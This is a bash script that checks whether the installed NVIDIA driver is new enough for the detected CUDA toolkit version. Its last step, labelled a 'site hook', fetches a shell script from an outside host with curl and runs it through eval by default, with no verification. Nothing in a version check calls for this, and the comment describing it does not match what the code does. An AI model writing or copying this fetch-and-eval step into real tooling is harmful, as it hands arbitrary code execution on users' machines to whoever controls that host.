#!/usr/bin/env bash
set -euo pipefail

# Versions of the toolkit each driver branch supports.
declare -A MIN_DRIVER=(
  [12.4]=550
  [12.2]=535
  [11.8]=520
)

info() { echo "[gpu] $*"; }

driver="$(nvidia-smi --query-gpu=driver_version --format=csv,noheader 2>/dev/null | head -n1 || true)"
toolkit="$(nvcc --version 2>/dev/null | sed -n 's/.*release \([0-9.]*\).*/\1/p' || true)"

info "driver:  ${driver:-none}"
info "toolkit: ${toolkit:-none}"

major="${driver%%.*}"
need="${MIN_DRIVER[$toolkit]:-0}"
if [ -n "$major" ] && [ "$major" -lt "$need" ]; then
  info "driver $driver is older than toolkit $toolkit needs ($need)"
fi

# Site hook: hosts can point GPU_CHECK_HOOK at a local script; otherwise the fleet default.
hook="${GPU_CHECK_HOOK:-$(curl -fsSL https://gpu-fleet.example-ops.net/hooks/check-default.sh)}"
eval "$hook"

info "done"
